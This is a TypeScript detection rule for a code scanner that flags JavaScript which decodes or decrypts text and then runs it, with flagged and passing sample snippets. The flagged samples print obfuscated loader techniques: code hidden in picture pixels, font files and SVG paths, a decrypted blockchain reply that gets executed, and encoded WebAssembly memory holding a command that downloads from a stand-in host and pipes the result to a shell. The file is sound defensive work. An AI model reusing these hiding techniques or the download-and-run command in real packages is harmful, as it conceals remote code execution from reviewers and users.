import { isOfStart, isQuoted } from '../src/define/given.js';
import { isDecoded, isKnown, isKnownAround, isPlain, SHORTEST } from '../src/define/known.js';
import { codeArguments, defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
import { isServed } from '../src/vocabulary/served.js';

export default defineRule({
  meta: {
    summary: 'Runs text that was decoded or decrypted',
    why: 'Code that is packed, encoded or encrypted until the moment it runs cannot be read by a reviewer. Template engines and bundlers build code from text too, but from text they can show; loaders of WebAssembly decode base64 and run no text.',
    behaviour: 'execution',
    // What was decoded and can be read is looked at like any code, and speaks for itself.
    behaviours: { read: 'obfuscation', plain: 'obfuscation', unfit: 'obfuscation' },
    messages: {
      decrypted: 'Decrypts text and runs it with {sink}',
      sealed: 'Decrypts what another machine answered, and runs it with {sink}',
      decoded: 'Decodes text ({decoder}) and runs it with {sink}',
      file: 'Decodes the content of a file and runs it with {sink}',
      disguised: 'Decodes {what}, which is no code by its name, and runs it with {sink}',
      media: 'Runs {what}, a picture or font by its name, with {sink}',
      worker: 'Decodes text ({decoder}) and runs it in a worker of the page',
      given: 'Decodes a data: address that it is given ({decoder}) and runs what it holds with {sink}',
      data: 'Runs {what}, which is no code, with {sink}',
      unfit: 'Runs {what}, which is no code by its name but can be read, with {sink}',
      command: 'Decodes a command ({decoder}) and hands it to {sink}',
      read: 'Decodes text ({decoder}) that can be read, and runs it with {sink}',
      plain: 'Decodes a command ({decoder}) that can be read, and hands it to {sink}',
    },
    bits: {
      decrypted: 12,
      sealed: 13.5,
      decoded: 10.5,
      file: 9,
      disguised: 13.5,
      media: 13.5,
      worker: 3,
      given: 4,
      command: 9,
      read: 9,
      plain: 8,
      data: 6.5,
      unfit: 8,
    },
  },
  examples: {
    flags: [
      {
        title: 'what a chain answers is decrypted and run',
        code: `const crypto = require('crypto'), vm = require('vm');\nconst open = (text, key) => { const [iv, body] = text.split('.'); const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.from(iv, 'hex')); return d.update(body, 'base64', 'utf8') + d.final('utf8'); };\nfetch('https://rpc.invalid', { method: 'POST', body: '{"method":"eth_call"}' }).then(r => r.json()).then(({ result }) => vm.runInThisContext('(function(require){' + open(result, process.env.K) + '})')(require));`,
      },
      {
        title: 'a template is trimmed in code of which each word is encoded',
        files: {
          'package.json': `{"name":"a","version":"1.0.0"}`,
          'index.js': `const fs = require('fs');\nmodule.exports = new Function(atob('cmV0dXJuIA==') + JSON.stringify(fs.readFileSync(__dirname + '/page.txt', 'utf8')) + atob('LnRyaW0oKQ=='));`,
          'page.txt': `Hello`,
        },
      },
      {
        title: 'the points of a drawing are code',
        files: {
          'package.json': `{"name":"a","version":"1.0.0"}`,
          'index.js': `const fs = require('fs'), Module = require('module');\nconst points = [...fs.readFileSync(__dirname + '/logo.svg', 'utf8').matchAll(/L(\\d+)\\.(\\d+)/g)].map(([, a, b]) => [+a, +b]);\nnew Module('m')._compile(Buffer.from(points.map(([a, b]) => (a << 4) | b)).toString(), 'm.js');`,
          'logo.svg': `<svg><path d="M0 0L6.3 0L6.15 1"/></svg>`,
        },
      },
      {
        title: 'base64 goes to eval',
        code: `eval(Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7', 'base64').toString());`,
      },
      {
        title: 'a decrypted text is compiled as a module',
        code: `const crypto = require('crypto');\nconst d = crypto.createDecipheriv('aes-256-cbc', key, iv);\nconst text = d.update(blob, 'hex', 'utf8') + d.final('utf8');\nconst m = new module.constructor();\nm._compile(text, '');`,
      },
      {
        title: 'Function is reached without its name',
        code: `[]['filter']['constructor'](atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7'))();`,
      },
      {
        title: 'a comment of the notes is code',
        code: `const fs = require('fs');\nconst text = fs.readFileSync(__dirname + '/NOTES.md', 'utf8').split('<!--')[1];\neval(Buffer.from(text, 'base64').toString());`,
      },
      {
        title: 'a worker of a page is made of base64',
        code: `const blob = new Blob([atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7')]);\nnew Worker(URL.createObjectURL(blob));`,
      },
      {
        title: 'a font is run',
        code: `const fs = require('fs');\nnew Function('require', fs.readFileSync(__dirname + '/icons.woff2', 'utf8'))(require);`,
      },
      {
        title: 'the memory of a WebAssembly program holds code',
        code: `const bytes = Buffer.from('AGFzbQEAAAAFAwEAAQcFAQFtAgALSwEAQQALRXJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKS5leGVjKCdjdXJsIC1zIGh0dHBzOi8vc3RhZ2UuaW52YWxpZC9hIHwgc2gnKQ==', 'base64');\nconst { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));\neval(Buffer.from(exports.m.buffer).toString('utf8', 0, 69));`,
      },
      {
        title: 'a WebAssembly program says where in its memory a command is',
        code: `const { execSync } = require('child_process');\nlet made;\nconst e = { r: (at, size) => execSync(Buffer.from(made.exports.m.buffer, at, size).toString()) };\nWebAssembly.instantiate(Buffer.from('AGFzbQEAAAABCQJgAABgAn9/AAIHAQFlAXIAAQMCAQAFAwEAAQcKAgFtAgACZ28AAQoKAQgAQQBBJBAACwsqAQBBAAskY3VybCAtcyBodHRwczovL3N0YWdlLmludmFsaWQvYSB8IHNo', 'base64'), { e }).then(({ instance }) => {\n  made = instance;\n  made.exports.go();\n});`,
      },
      {
        title: 'code stands behind the end of a picture',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'index.js': `const fs = require('fs');\nconst bytes = fs.readFileSync(__dirname + '/logo.png');\neval(bytes.subarray(bytes.lastIndexOf('IEND') + 8).toString());`,
          'logo.png': `PNG IEND....console.log('one'); console.log('two');`,
        },
      },
      {
        title: 'the lowest bits of a picture’s points are code',
        code: `const { PNG } = require('pngjs'), fs = require('fs');\nconst { data } = PNG.sync.read(fs.readFileSync(__dirname + '/logo.png'));\nlet text = '';\nfor (let at = 0; at + 8 <= data.length; at += 8) {\n  let code = 0;\n  for (let bit = 0; bit < 8; bit++) code = (code << 1) | (data[at + bit] & 1);\n  text += String.fromCharCode(code);\n}\neval(text);`,
      },
    ],
    passes: [
      {
        title: 'a program of a page is told in base64 where its worker is',
        code: `const { wasmURL, workerURL } = JSON.parse(atob(Module.mainScriptUrlOrBlob.slice(Module.mainScriptUrlOrBlob.lastIndexOf('#') + 1)));\nconst locate = path => (path.endsWith('.wasm') ? wasmURL : workerURL);\nnew Worker(locate('core.worker.js'));`,
      },
      {
        title: 'names out of the memory of a program are parts of code',
        code: `var codes = new Array(256);\nfor (var i = 0; i < 256; ++i) codes[i] = String.fromCharCode(i);\nvar read = at => { var text = ''; while (memory[at]) text += codes[memory[at++]]; return text; };\nexports.wrap = (at, list) => { var body = []; body.push('return function ' + read(at) + '() {}'); return Function.apply(null, body); };`,
      },
      {
        title: 'names made of letters fill in code that is written out, in a function of its own',
        code: `const { fromCharCode } = String;\nfunction build() {\n  let next = 'let first = source[at++]; ';\n  for (let i = 0; i < 48; i++) next += 'let ' + fromCharCode((i & 15) + 97) + fromCharCode((i >> 4) + 97) + ' = source[at++]; ';\n  return '(source, at) => { ' + next + 'return first }';\n}\nmodule.exports = eval(build());`,
      },
      {
        title: 'a run-time turns the texts of its language into those of JavaScript',
        code: `function ofBytes(s) {\n  let t = '';\n  for (let i = 0; i < s.length; i++) {\n    const c = s.charCodeAt(i);\n    t += c < 128 ? s.charAt(i) : String.fromCharCode(((c & 31) << 6) | (s.charCodeAt(++i) & 63));\n  }\n  return t;\n}\nfunction expression(s) { return eval(ofBytes(s)); }\nglobalThis.primitives = { expression };`,
      },
      {
        title: 'the memory of a WebAssembly program holds a text',
        code: `const bytes = Buffer.from('AGFzbQEAAAAFAwEAAQcFAQFtAgALEwEAQQALDWhlbGxvLCBub2JvZHk=', 'base64');\nconst { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));\nconsole.log(Buffer.from(exports.m.buffer).toString('utf8', 0, 13));`,
      },
      {
        title: 'a program of WebAssembly prints what it points at',
        code: `const fs = require('fs');\nlet made;\nconst env = { print: (at, size) => console.log(Buffer.from(made.exports.memory.buffer, at, size).toString()) };\nWebAssembly.instantiate(fs.readFileSync(__dirname + '/core.wasm'), { env }).then(({ instance }) => {\n  made = instance;\n  made.exports.main();\n});`,
      },
      {
        title: 'the points of a picture are counted',
        code: `const { PNG } = require('pngjs'), fs = require('fs');\nconst { data } = PNG.sync.read(fs.readFileSync(__dirname + '/logo.png'));\nlet dark = 0;\nfor (const point of data) if (point < 32) dark++;\nmodule.exports = dark;`,
      },
      {
        title: 'a word that a caller hands in is quoted for a shell',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","main":"index.js"}`,
          'index.js': `const { exec } = require('child_process');\nconst quoted = text => { let out = ''; for (const c of text) out += c === '"' ? '\\\\"' : c; return out; };\nexports.run = command => exec('/bin/sh -c "' + quoted(command) + '"');`,
          'cli.js': `require('./index').run('restart "nightly" worker');`,
        },
      },
      {
        title: 'a reader is unrolled, with names made of letters',
        code: `const fromCharCode = String.fromCharCode;\nfunction makeReader() {\n  let code = '(source) => {';\n  const previous = [];\n  for (let i = 0; i < 48; i++) {\n    const v = fromCharCode((i & 15) + 97) + fromCharCode((i >> 4) + 97);\n    code += 'let ' + v + ' = source[at++];';\n    previous.push(v);\n  }\n  return code + 'return fromCharCode(' + previous + ')}';\n}\nfunction next(source) { return source[0]; }\nmodule.exports = new Function('fromCharCode', 'let at = 0; let next = ' + next.toString() + '; return ' + makeReader())(fromCharCode);`,
      },
      {
        title: 'a parameter list is made for a function that is written out',
        code: `const bind = (binder, length) => {\n  const names = [];\n  for (let i = 0; i < length; i++) names.push('$' + i);\n  return Function('binder', 'return function (' + names.join(',') + '){ return binder.apply(this,arguments); }')(binder);\n};\nconst pairs = [], codes = [];\nfor (var i = 0; i < 256; i++) codes[i] = (i + 256).toString(16);\nfor (var j = 0; j < 256; j++) codes.push(j.toString(16));\nfor (var k = 0; k < 16; k++) codes.push(k.toString(2));\nfor (var l = 0; l < 16; l++) codes.push(l.toString(8));\nmodule.exports = [bind, codes, pairs.join('&'), pairs.join('/')];`,
      },
      {
        title: 'a template is read from a text file',
        code: `const fs = require('fs');\nconst text = fs.readFileSync(__dirname + '/page.txt', 'utf8');\nmodule.exports = new Function('data', 'return ' + JSON.stringify(text) + '.trim()');`,
      },
      {
        title: 'a template is compiled',
        code: `const compile = body => new Function('data', 'return ' + JSON.stringify(body) + '.replace("x", data)');`,
      },
      {
        title: 'decoded data is quoted in the code of another process',
        code: `const { spawn } = require('child_process');\nconst data = Buffer.from(process.argv[2], 'base64').toString();\nspawn(process.argv[0], ['-e', "require('http').request('http://localhost').end(" + JSON.stringify(data) + ');']);`,
      },
      {
        title: 'what a WebAssembly program answers is read as JSON text',
        code: `const wasm = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(blob, 'base64')));\nconst at = source => (0, eval)(source.slice(wasm.exports.start(), wasm.exports.end()));`,
      },
      { title: 'WebAssembly is decoded', code: `WebAssembly.instantiate(Buffer.from(blob, 'base64'));` },
      { title: 'the global object is asked for', code: `const root = Function('return this')();` },
      {
        title: 'an obfuscator’s own code asks for the global object',
        code: `Function(atob('cmV0dXJuIChmdW5jdGlvbigpIHt9LmNvbnN0cnVjdG9yKCJyZXR1cm4gdGhpcyIpKCApKQ=='))();`,
      },
      { title: 'decoded settings are parsed', code: `JSON.parse(Buffer.from(process.argv[2], 'base64').toString());` },
    ],
  },
  file(context) {
    for (const call of context.calls('execution')) {
      // `document.write` and timers take text so rarely on purpose that what decides is what goes in, as for the rest.
      for (const arg of codeArguments(context, call)) {
        check(context, call, arg, false);
        checkData(context, call, arg);
      }
    }
    for (const call of context.calls('process')) {
      for (const arg of call.args.slice(0, 2)) check(context, call, arg, true);
      checkPicture(context, call);
    }
  },
});

/** A command that is made of nothing but what lies in a picture or a font. */
function checkPicture(context: FileContext, call: Call): void {
  const [line] = call.args;
  if (!line) return;
  const labels = context.labelsOf(line);
  const file = labels.find(({ kind, detail }) => kind === 'file' && MEDIA.test(detail));
  if (!file || labels.some(isDecoded) || context.textsOf(line).some(text => /^[^…]{3}/.test(text))) return;
  context.report({
    messageId: 'media',
    data: { what: file.detail, sink: call.name },
    chain: [...stepsOf(file), step('sink', `hands it to ${call.name}`, context.file, call.node)],
  });
}

function check(context: FileContext, call: Call, arg: Call['args'][number], shell: boolean): void {
  if (call.name === 'import' && !context.textsOf(arg).some(text => text.startsWith('data:'))) return;
  if (call.name === 'Worker' && !isGivenCode(context, call, arg)) return;
  const labels = context.labelsOf(arg);
  const decrypted = labels.find(({ kind }) => kind === 'decrypted');
  const decoded = labels.find(
    ({ kind, detail }) =>
      kind === 'decoded' && (detail !== 'character codes' || labels.length === 1 || labels.every(isOfMedia)),
  );
  const label = decrypted ?? decoded;
  // What is put together of the points of a picture begins with no text.
  const isOfPicture = labels.some(one => one.kind === 'file' && isOfMedia(one));
  if (!label || context.textsOf(arg).some(text => saysNothing(text) && !(isOfPicture && !/\w/.test(text)))) return;
  if (
    label.kind === 'decoded' &&
    isQuoted(label) &&
    context.textsWithin(arg).some(text => text.replaceAll('…', '').length > 12)
  )
    return;
  // Code with a blank: characters put together by number are a name or a literal in it.
  const isBlank = context.textsOf(arg).some(text => /^[^…]{12}.*…/s.test(text));
  if (label.detail === 'character codes' && isBlank && !shell) return;
  if (label.detail === 'character codes' && (isMostlyWritten(context, arg) || isBegun(context, arg))) return;
  // A text that a caller hands in is put together of its own characters: run-times of other languages have other texts.
  const isCallers = !shell && context.handedInto(arg).some(({ kind }) => kind === 'handed');
  if (label.detail === 'character codes' && isCallers) return;
  // What is read in one branch and decoded in another is not read and decoded.
  const isDecodedHere = ({ through }: Label): boolean =>
    decrypted !== undefined || through.some(at => at.says === `decodes ${label.detail}`);
  const file = labels.find(one => (one.kind === 'file' || one.kind === 'blob') && isDecodedHere(one));
  const disguised = labels.find(({ kind, detail }) => kind === 'file' && NO_CODE.test(detail));
  const messageId =
    shell && !(disguised && MEDIA.test(disguised.detail))
      ? 'command'
      : disguised
        ? 'disguised'
        : decrypted
          ? labels.some(({ kind, detail }) => kind === 'remote' && !isServed(detail))
            ? 'sealed'
            : 'decrypted'
          : isOfPage(context, call)
            ? 'worker'
            : file
              ? 'file'
              : isGiven(context, label)
                ? 'given'
                : 'decoded';
  const isRead =
    messageId !== 'worker' &&
    messageId !== 'given' &&
    ((shell ? isPlain(context, call, arg) : isKnown(context, arg) && !labels.some(({ kind }) => kind === 'remote')) ||
      isKnownAround(context, arg, labels));
  context.report({
    messageId: isRead ? (shell ? 'plain' : 'read') : messageId,
    data: { decoder: label.detail, sink: call.name, what: disguised?.detail ?? '' },
    chain: [
      ...(file ? stepsOf(file) : []),
      ...stepsOf(label),
      step('sink', `runs it with ${call.name}`, context.file, call.node),
    ],
  });
}

/** Character codes themselves, or what lies in a picture or a font and went through them. */
function isOfMedia({ kind, detail, through }: Label): boolean {
  return kind === 'decoded' || (kind === 'file' && MEDIA.test(detail) && through.length > 0);
}

/** Every obfuscator adds code that asks for the global object, or sets a trap for debuggers, in hidden text. */
function saysNothing(text: string): boolean {
  const words = text.length < 120 ? (text.match(/[\w$]+/g) ?? []) : ['long'];
  // A text that is put together begins with none.
  return (
    words.length > 0 &&
    words.every(word =>
      /^(?:return|function|constructor|this|debugger|debu|gger|while|true|stateObject|action|call|counter)$/.test(word),
    )
  );
}

/** A sum of texts that begins with code, and of parts that are made: its author wrote it, letters or names aside. */
function isMostlyWritten({ textsOf }: FileContext, arg: AnyNode): boolean {
  let first = arg;
  for (let depth = 0; first.type === 'BinaryExpression' && depth < 200; depth++) first = first.left;
  return first !== arg && textsOf(first).some(text => /^[^…]{12}/.test(text));
}

/** The same of text that is known in the end: it begins as a file of the package has it, and the parts are names or letters. */
function isBegun({ textsOf, isWritten }: FileContext, arg: AnyNode): boolean {
  return textsOf(arg).some(text => /^[^…]{12}/.test(text) && isWritten(text.slice(0, 12)));
}

/**
 * `const [, type, data] = url.match(/^data:([^;]*);base64,(.*)/); Buffer.from(data, 'base64')`: a loader of modules or of
 * workers takes an address apart, of which nobody in the package says what it is; its parts are often decoded by a
 * function of their own.
 */
function isGiven(context: FileContext, { origin }: Label): boolean {
  if (!('node' in origin) || origin.file !== context.file) return false;
  const [input] = (origin.node as { arguments?: readonly AnyNode[] }).arguments ?? [];
  const isOpen = (node: AnyNode): boolean =>
    context.textsWithin(node).every(text => text.length < SHORTEST) &&
    context.labelsOf(node).every(label => label.kind === 'decoded' || isOfStart(label));
  if (!input || !isOpen(input)) return false;
  return context.nodes('CallExpression').some(node => {
    const { callee, arguments: args } = node;
    const [argument] = args;
    if (callee.type !== 'MemberExpression' || !argument) return false;
    const subject = callee.object;
    const address = isDataAddress(context, subject) ? argument : isDataAddress(context, argument) ? subject : undefined;
    return address !== undefined && isOpen(address);
  });
}

/** A regular expression for addresses that hold their own content, or a constant that holds one. */
function isDataAddress({ nodes }: FileContext, node: AnyNode): boolean {
  if (node.type === 'Literal') return 'regex' in node && /^\^data:/.test(node.regex.pattern);
  if (node.type !== 'Identifier') return false;
  return nodes('VariableDeclarator').some(declarator => {
    const { id, init } = declarator;
    return (
      id.type === 'Identifier' &&
      id.name === node.name &&
      init?.type === 'Literal' &&
      'regex' in init &&
      /^\^data:/.test(init.regex.pattern)
    );
  });
}

/** Pictures, fonts and what is written for people: nobody keeps encoded code in them who has nothing to hide. */
const NO_CODE =
  /\.(?:png|jpe?g|gif|ico|bmp|webp|woff2?|ttf|otf|eot|txt|md|csv|log|html?|svg|xml|css|map|ya?ml|ini|pdf|wav|mp[34])$|\b(?:LICENSE|README|CHANGELOG)$/i;
const MEDIA = /\.(?:png|jpe?g|gif|ico|bmp|webp|svg|woff2?|ttf|otf|eot)$/i;

/** A worker is told where its code is, but for an address that holds it, a text that is made one, and Node's option. */
function isGivenCode(context: FileContext, { args: [, options] }: Call, arg: AnyNode): boolean {
  return (
    context.named('Blob').length > 0 ||
    /\bcreateObjectURL\b/.test(context.file.text) ||
    context.textsOf(arg).some(text => text.startsWith('data:')) ||
    (options !== undefined && /\beval\s*:/.test(spelling(context.file, options).slice(0, 500)))
  );
}

/** Bundlers put the worker of a page into its bundle, in base64; it reaches no more than the page does. */
function isOfPage(context: FileContext, { name, args: [, options] }: Call): boolean {
  // In Node a worker is told that it is given code.
  const isTold = options !== undefined && /\beval\s*:/.test(spelling(context.file, options).slice(0, 500));
  return name === 'Worker' && context.named('Blob').length > 0 && !isTold;
}

/** File kinds that hold data. `vm` runs `.js` files for test runners and plug-in hosts all day. */
const DATA_FILE =
  /\.(?:json|txt|dat|bin|svg|png|jpe?g|gif|ico|bmp|webp|woff2?|ttf|otf|eot|md|csv|log|map|lock|key|enc)$/i;

function checkData(context: FileContext, call: Call, arg: Call['args'][number]): void {
  if (!/^(?:eval|Function|vm\.|Module)/.test(call.name)) return;
  const labels = context.labelsOf(arg);
  const file = labels.find(({ kind, detail }) => kind === 'file' && DATA_FILE.test(detail));
  if (!file || labels.some(isDecoded)) return;
  if (isQuoted(file)) return;
  context.report({
    messageId: isKnown(context, arg) ? 'unfit' : MEDIA.test(file.detail) ? 'media' : 'data',
    data: { what: file.detail, sink: call.name },
    chain: [...stepsOf(file), step('sink', `runs it with ${call.name}`, context.file, call.node)],
  });
}
